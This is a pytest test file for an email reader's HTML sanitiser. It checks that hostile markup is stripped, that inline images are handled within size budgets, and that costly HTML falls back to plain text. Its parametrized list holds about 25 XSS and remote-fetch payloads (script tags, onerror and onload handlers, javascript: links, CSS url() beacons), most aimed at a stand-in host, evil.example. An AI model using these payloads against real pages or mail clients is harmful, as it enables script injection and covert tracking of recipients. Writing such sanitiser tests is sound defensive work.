"""HTML mail through the sanitiser: whatever comes in, what comes out can run nothing, submit
nothing and fetch nothing; text, structure, harmless styles, links (http, https, mailto) and the
message's own cid: images survive."""

from __future__ import annotations

import base64
import datetime as dt
from pathlib import Path

import pytest

from smime_companion.core.text import Part, iter_parts
from smime_companion.reader import html_mail, message_view
from smime_companion.reader.html_mail import InlineImage, clean_html
from smime_companion.testing.pki import TestPki
from tests.reader_world import make_world

PNG = b"\x89PNG\r\n\x1a\n fake image bytes"
IMAGES = {
    "logo@x": InlineImage("image/png", PNG),
    "vector@x": InlineImage("image/svg+xml", b"<svg/>"),
}


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>fetch('http://evil.example/')</script>",
        "<img src=x onerror=\"fetch('http://evil.example/')\">",
        "<body onload=\"fetch('http://evil.example/')\">",
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        '<form action="http://evil.example/"><input name=a><button>go</button></form>',
        '<svg><image href="http://evil.example/x.png"/></svg>',
        '<math><mtext><img src="http://evil.example/m.png"></mtext></math>',
        "<style>body { background: url(http://evil.example/bg.png) }</style>",
        '<p style="background-image: url(http://evil.example/p.png)">x</p>',
        '<p style="background: url(&quot;http://evil.example/q.png&quot;)">x</p>',
        '<link rel="stylesheet" href="http://evil.example/s.css">',
        '<base href="http://evil.example/">',
        '<iframe src="http://evil.example/f"></iframe>',
        '<object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
        '<video poster="http://evil.example/v.png" src="http://evil.example/v.mp4"></video>',
        '<img srcset="http://evil.example/s.png 2x">',
        '<table background="http://evil.example/t.png"><tr><td>x</td></tr></table>',
        "<a href=\"javascript:fetch('http://evil.example/')\">x</a>",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<img src="//evil.example/protocol-relative.png">',
        '<IMG SRC="http://evil.example/upper.png">',
        '<img src=" http://evil.example/space.png ">',
        '<div style="width: expression(alert(1))">x</div>',
        "<!--[if gte mso 9]><img src=http://evil.example/mso.png><![endif]-->",
        '<a href="http://ok.example/" ping="http://evil.example/ping">x</a>',
    ],
)
def test_nothing_hostile_survives(hostile: str) -> None:
    cleaned = clean_html(f"<p>before</p>{hostile}<p>after</p>", IMAGES).html
    lowered = cleaned.lower()
    assert "evil.example" not in lowered
    for marker in ("<script", "onerror", "onload", "<form", "<svg", "<math", "<style", "<meta",
                   "<link", "<base", "<iframe", "<object", "<embed", "<video", "javascript:",
                   "url(", "expression(", "srcset", "ping=", "data:text"):  # fmt: skip
        assert marker not in lowered, (marker, cleaned)
    assert "before" in cleaned and "after" in cleaned


def test_remote_images_are_counted_and_cid_images_become_our_data_uris() -> None:
    cleaned = clean_html(
        '<img src="http://a.example/1.png"><img src="cid:LOGO@x" alt="logo">'
        '<img src="cid:missing@x"><img src="cid:vector@x"><img src="relative.png">',
        IMAGES,
    )
    assert cleaned.remote_images == 2
    assert cleaned.inlined == frozenset({"logo@x"})
    assert f'src="data:image/png;base64,{base64.b64encode(PNG).decode()}"' in cleaned.html
    assert "svg" not in cleaned.html  # an SVG part is never inlined: it can carry script


def test_a_picture_named_a_thousand_times_is_drawn_within_a_budget_not_a_thousand_times(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Each reference is a data: URI of its own: 17 KB of HTML naming one 5 MB part a thousand
    # times came to 7 GB. Past the budget a picture is withheld (and counted), not drawn.
    monkeypatch.setattr(html_mail, "MAX_INLINED_BYTES", 1_000_000)
    photo = InlineImage("image/png", PNG + b"\0" * 300_000)
    cleaned = clean_html("<p>Hi</p>" + '<img src="cid:logo@x">' * 1000, {"logo@x": photo})
    assert cleaned.html.count("data:image/png;base64,") == 3
    assert cleaned.withheld == 997
    assert len(cleaned.html) < 1_000_000 * 4 // 3 + 30_000
    assert cleaned.inlined == frozenset({"logo@x"})
    # The same picture named a few times, as newsletters repeat a spacer, is drawn each time.
    spacer = clean_html('<img src="cid:logo@x">' * 3, IMAGES)
    assert (spacer.html.count("data:image/png"), spacer.withheld) == (3, 0)
    # Asked only which parts it draws (the message page, for each body), nothing is written.
    decided = clean_html("<p>Hi</p>" + '<img src="cid:logo@x">' * 1000, {"logo@x": photo},
                         pictures=False)  # fmt: skip
    assert (decided.inlined, decided.withheld) == (cleaned.inlined, cleaned.withheld)
    assert "base64" not in decided.html and len(decided.html) < 30_000


def test_a_picture_the_html_carries_as_a_data_uri_is_shown_and_nothing_else_is() -> None:
    # Pasted pictures and some newsletters carry their images inside the HTML: nothing is
    # fetched, so a PNG, JPEG, GIF or WebP is shown (written again from its bytes); a data: URI
    # that is SVG, HTML, not base64 or a picture under a type its bytes deny is dropped.
    png = base64.b64encode(PNG).decode()
    svg = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>').decode()
    cleaned = clean_html(
        f'<img src="data:image/png;base64,{png}" alt="pasted">'
        f'<img src="DATA:image/gif;charset=x;base64, {png[:20]} {png[20:]}">'
        f'<img src="data:image/svg+xml;base64,{svg}"><img src="data:image/jpeg;base64,{svg}">'
        f'<img src="data:image/png,{PNG.decode(errors="ignore")}">'
        f'<a href="data:image/png;base64,{png}">a link</a>',
        {},
    )
    assert cleaned.html.count(f'src="data:image/png;base64,{png}"') == 2
    assert "svg" not in cleaned.html.lower() and cleaned.html.count("data:") == 2
    assert cleaned.remote_images == 0  # nothing was left out that would have been fetched


def test_an_image_the_message_carries_under_its_content_location_is_shown_not_fetched() -> None:
    # RFC 2557 (Word, Lotus Notes, saved web pages): the HTML names the picture by a URL and
    # the message carries the part at that URL; showing the part fetches nothing.
    related = (
        b'Content-Type: multipart/related; boundary="r"\r\n\r\n--r\r\n'
        b'Content-Type: text/html\r\n\r\n<img src="image001.png"><img src="http://a.example/'
        b'logo.png"><img src="http://a.example/other.png">\r\n--r\r\nContent-Type: image/png'
        b"\r\nContent-Location: image001.png\r\n\r\n" + PNG + b"\r\n--r\r\n"
        b"Content-Type: image/png\r\nContent-Location: http://a.example/\r\n logo.png\r\n\r\n"
        + PNG
        + b"\r\n--r--\r\n"
    )
    parts = list(iter_parts(related))
    assert [p.content_location for p in parts] == [
        None,
        "image001.png",
        "http://a.example/logo.png",
    ]
    locations = {
        p.content_location: InlineImage(p.mime_type, p.data) for p in parts if p.content_location
    }
    cleaned = clean_html(parts[0].data.decode(), {}, locations)
    assert cleaned.inlined == frozenset({"image001.png", "http://a.example/logo.png"})
    assert cleaned.html.count("data:image/png;base64,") == 2
    assert cleaned.remote_images == 1 and "other.png" not in cleaned.html


def test_text_structure_styles_and_links_survive() -> None:
    cleaned = clean_html(
        '<h1 style="color: red; font-weight: bold">Title</h1><table><tr><td>cell</td></tr>'
        '</table><a href="https://example.org/x">see</a> <a href="mailto:bob@example.org">bob</a>',
        {},
    ).html
    assert 'style="color:red;font-weight:bold"' in cleaned.replace(" ", "")
    assert "<td>cell</td>" in cleaned
    assert 'href="https://example.org/x"' in cleaned and 'target="_blank"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned
    assert 'href="mailto:bob@example.org"' in cleaned


def test_html_nested_too_deeply_to_parse_in_bounded_time_is_shown_as_its_text() -> None:
    # 50,000 nested elements cost the parser seconds (its work grows with the square of the
    # depth): such a document is shown as text instead, found in one linear pass.
    for opener in ("<div>", '<div title="<">', "<font><span>"):
        cleaned = clean_html(opener * 50_000 + "<p onclick=x>deep text</p>", {})
        assert cleaned.as_text and cleaned.html.startswith("<pre>"), opener
        assert "deep text" in cleaned.html and "onclick" not in cleaned.html
    # An old table and list without end tags is not deep.
    table = "<table>" + "<tr><td>cell" * 5000 + "</table><ul>" + "<li>item" * 5000 + "</ul>"
    assert not clean_html(table, {}).as_text
    assert not clean_html("<p onclick=x>" * 20_000 + "<" * 100_000, {}).as_text


@pytest.mark.parametrize("unit", ["&", "a&nbsp;b ", "&amp; ", "\xa0", "\xad", "\x85"])
def test_html_whose_text_the_sanitiser_would_take_quadratic_time_on_is_shown_as_its_text(
    unit: str,
) -> None:
    # The sanitiser's work grows with the square of how many ampersands, non-breaking spaces
    # or soft hyphens one text holds (a million ampersands: 8.4 s): past 100,000, text.
    costly = "<p onclick=x>Report</p>" + unit * 150_000
    cleaned = clean_html(costly, {})
    assert cleaned.as_text == "holds over 100,000 ampersands or special spaces"
    assert cleaned.html.startswith("<pre>") and "Report" in cleaned.html
    assert "onclick" not in cleaned.html
    assert not clean_html("<p>Fish &amp; chips&nbsp;to go</p>" * 10_000, {}).as_text


def test_html_longer_than_two_megabytes_is_shown_as_its_text() -> None:
    long = "<p>" + "words " * 400_000 + "</p>"
    assert clean_html(long, {}).as_text == "is larger than 2 MB"
    assert not clean_html(long[:1_900_000], {}).as_text


@pytest.mark.parametrize(
    ("html", "height"),
    [
        ("<p>See you at noon.</p>", "brief"),
        ("<p>Hello,</p><p>see you at noon.</p><p>Alice</p><p>--<br>Sent from a phone</p>", "short"),
        ("<p>Hello</p>" + "<img src='cid:a'>" * 2, "medium"),
        ("<p>" + "word " * 300 + "</p>", "medium"),  # 1,500 characters: about 15 lines
        ("<br>".join(["a line"] * 40), "tall"),
        ("<p>Report</p>" + "<img src='cid:a'>" * 4, "tall"),
    ],
    ids=["line", "note", "two-pictures", "long-paragraph", "many-lines", "many-pictures"],
)
def test_an_html_body_gets_a_frame_about_as_tall_as_it_is(html: str, height: str) -> None:
    part = Part(2, "text/html", "", False, html.encode(), "utf-8")
    assert message_view._frame_height(part) == height


def _related(html_bodies: int, picture: bytes) -> bytes:
    """A multipart/related message of ``html_bodies`` HTML bodies, each drawing ``picture``."""
    bodies = b"".join(
        b'--r\r\nContent-Type: text/html\r\n\r\n<p>Part %d</p><img src="cid:photo@x">\r\n' % i
        for i in range(html_bodies)
    )
    return (
        b"From: alice@example.org\r\nSubject: Photos\r\nDate: Mon, 07 Dec 2026 10:00:00 +0000\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=r\r\n\r\n" + bodies
        + b"--r\r\nContent-Type: image/png\r\nContent-ID: <photo@x>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(picture) + b"--r--\r\n"
    )  # fmt: skip


def test_the_html_bodies_of_one_message_share_one_budget_of_pictures(
    tmp_path: Path, pki: TestPki, now: dt.datetime
) -> None:
    # A thousand bodies naming one picture each would otherwise draw it a thousand times over,
    # each within its own budget: the message's 32 MB are shared, here 3.2 MB per body.
    photo = PNG + b"\0" * (4 * 1024 * 1024)
    worlds = make_world(tmp_path, pki, now, [_related(1, photo), _related(10, photo)])
    world = next(worlds)
    try:
        cookie, _ = world.session()
        _, _, alone = world.request("GET", "/message/1/html/1", {"Cookie": cookie})
        assert alone.count(b"data:image/png;base64,") == 1
        _, _, shared = world.request("GET", "/message/2/html/1", {"Cookie": cookie})
        assert b"data:image/png" not in shared and b"1 picture not drawn here" in shared
        _, _, page = world.request("GET", "/message/2", {"Cookie": cookie})
        assert b"part 11</a>" in page  # so it is listed with the attachments
    finally:
        next(worlds, None)
